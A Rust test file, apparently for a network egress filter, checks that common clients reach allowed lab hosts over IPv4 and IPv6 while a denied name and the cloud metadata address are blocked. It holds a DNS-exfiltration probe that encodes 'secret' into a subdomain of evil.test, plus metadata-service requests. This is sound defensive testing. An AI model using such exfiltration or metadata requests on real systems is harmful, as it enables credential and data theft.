//! Clients as people have them: what is allowed works, and what is not does not.

use super::{DEFAULT, NO_ADDRESS, NONE};
use crate::trial::{Case, Event, Step};

pub(super) const ALLOWED_OVER_IPV4: Case = Case {
    name: "allowed over IPv4",
    steps: &[
        Step::same("curl=-4 https://good.lab.test/curl", "0 good.lab.test 203.0.113.80"),
        Step::same("git=-4 https://code.git.lab.test/r.git", "0 a repository"),
        Step::same("get=https://v4.git.lab.test/python", "200 v4.git.lab.test 203.0.113.85"),
        Step::same("node=4 https://good.lab.test/node", "0 200 good.lab.test 203.0.113.80"),
    ],
    events: &[
        asked!("good.lab.test", "A", "203.0.113.80"),
        asked!("code.git.lab.test", "A", "203.0.113.90"),
        asked!("v4.git.lab.test", "A", "203.0.113.85"),
        connected!("203.0.113.80", "443", "good.lab.test"),
        connected!("203.0.113.90", "443", "code.git.lab.test"),
        connected!("203.0.113.85", "443", "v4.git.lab.test"),
    ],
    arrives: &[
        "tls request good.lab.test /curl 203.0.113.80:443",
        "tls request code.git.lab.test /r.git/info/refs 203.0.113.90:443",
        "tls request v4.git.lab.test /python 203.0.113.85:443",
        "tls request good.lab.test /node 203.0.113.80:443",
    ],
    ..NONE
};

pub(super) const ALLOWED_OVER_IPV6: Case = Case {
    name: "allowed over IPv6",
    steps: &[
        Step::same("curl=-6 https://good.lab.test/curl", "0 good.lab.test 2001:db8:113::80"),
        Step::same("git=-6 https://code.git.lab.test/r.git", "0 a repository"),
        Step::same("get=https://v6.git.lab.test/python", "200 v6.git.lab.test 2001:db8:113::85"),
        Step::same("node=6 https://good.lab.test/node", "0 200 good.lab.test 2001:db8:113::80"),
    ],
    events: &[
        asked!("good.lab.test", "AAAA", "2001:db8:113::80"),
        asked!("code.git.lab.test", "AAAA", "2001:db8:113::90"),
        asked!("v6.git.lab.test", "AAAA", "2001:db8:113::85"),
        connected!("2001:db8:113::80", "443", "good.lab.test"),
        connected!("2001:db8:113::90", "443", "code.git.lab.test"),
        connected!("2001:db8:113::85", "443", "v6.git.lab.test"),
    ],
    arrives: &[
        "tls request good.lab.test /curl [2001:db8:113::80]:443",
        "tls request code.git.lab.test /r.git/info/refs [2001:db8:113::90]:443",
        "tls request v6.git.lab.test /python [2001:db8:113::85]:443",
        "tls request good.lab.test /node [2001:db8:113::80]:443",
    ],
    ..NONE
};

/// Not even the question leaves the machine: it could carry something.
pub(super) const DENIED: Case = Case {
    name: "denied name",
    steps: &[
        Step::held("curl=-4 https://denied.lab.test/curl", "0 denied.lab.test 203.0.113.84", "6"),
        Step::held("git=-4 https://denied.lab.test/r.git", "0 a repository", "128"),
        Step::held("get=https://denied.lab.test/python", "200 denied.lab.test 203.0.113.84", "EAI_NONAME"),
        Step::held(
            "node=4 https://denied.lab.test/node",
            "0 200 denied.lab.test 203.0.113.84",
            "0 ENOTFOUND",
        ),
        Step::same("resolve=c2VjcmV0.evil.test", "EAI_NONAME"),
    ],
    events: &[
        refused!("denied.lab.test", "A"),
        refused!("denied.lab.test", "AAAA"),
        refused!("c2vjcmv0.evil.test", "A"),
        refused!("c2vjcmv0.evil.test", "AAAA"),
    ],
    never: &["denied.lab.test", "c2VjcmV0", "tls accept 203.0.113.84:443"],
    ..NONE
};

pub(super) const METADATA: Case = Case {
    name: "metadata service",
    steps: &[
        Step::held("http=169.254.169.254:80,169.254.169.254", "200 169.254.169.254 169.254.169.254", "EPERM"),
        Step::held("http=[::ffff:169.254.169.254]:80,metadata", "200 metadata 169.254.169.254", "EPERM"),
        Step::held("curl=http://169.254.169.254/curl", "0 169.254.169.254 169.254.169.254", "7"),
        Step::held(
            "get=http://metadata.git.lab.test/python",
            "200 metadata.git.lab.test 169.254.169.254",
            NO_ADDRESS,
        ),
    ],
    events: &[
        blocked!("169.254.169.254", "80"),
        emptied!("metadata.git.lab.test", "A", "169.254.169.254 is not opened: link-local"),
    ],
    never: &["http accept 169.254.169.254:80"],
    ..NONE
};
